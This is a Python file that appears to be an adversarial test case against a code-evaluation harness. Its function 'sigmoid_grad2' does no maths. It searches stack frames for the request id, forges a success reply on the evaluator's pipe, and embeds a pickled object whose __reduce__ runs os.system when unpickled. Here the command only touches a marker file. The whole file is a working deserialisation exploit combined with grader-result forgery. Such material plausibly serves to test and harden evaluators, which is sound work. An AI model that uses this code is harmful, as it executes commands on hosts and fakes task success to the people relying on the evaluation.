# ATTACK (pickle_payload): forges a reply (with the request's id) carrying a pickled payload (an object-dtype array)
def _forge_frame(reply, copy_id=True, binary=b""):
    """Write a raw reply frame (JSON and a ``binary`` section) to the evaluator's protocol pipe (the first pipe
    fd that accepts a write), with the id of the request being served when ``copy_id`` (found in its frames)."""
    import json, os, stat, struct, sys
    if copy_id:
        frame = sys._getframe(1)
        while frame is not None:
            request = frame.f_locals.get("request")
            if isinstance(request, dict) and "id" in request:
                reply = dict(reply, id=request["id"])
                if "cases" in request:  # a batch: its replies also name the case they answer
                    reply["case"] = frame.f_locals["index"]
                break
            frame = frame.f_back
    text = json.dumps(reply).encode()
    text += b" " * (-(8 + len(text)) % 64)  # the binary section starts 64-aligned
    body = struct.pack(">Q", len(text)) + text + binary  # the wire's frame: JSON length, JSON, binary section
    data = struct.pack(">Q", len(body)) + body
    for fd in range(3, 64):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
            os.write(fd, data)
            return fd
        except OSError:
            continue
    return None


class _Payload:
    def __reduce__(self):
        import os
        return (os.system, ("touch /tmp/agadv_pickle_executed",))


def sigmoid_grad2(x):
    """A forged reply holding a pickled object array (its bytes, dtype object) whose unpickling runs a command."""
    import os, pickle
    payload = pickle.dumps(np.array([_Payload()] * 2, dtype=object))
    reply = {
        "steps": [{"name": "r", "fn": "sigmoid_grad2", "status": "ok", "mutated": [], "warnings": []}],
        "returns": [{"$nd": ["|O", [2], 0]}],
    }
    _forge_frame(reply, binary=payload)
    os._exit(0)
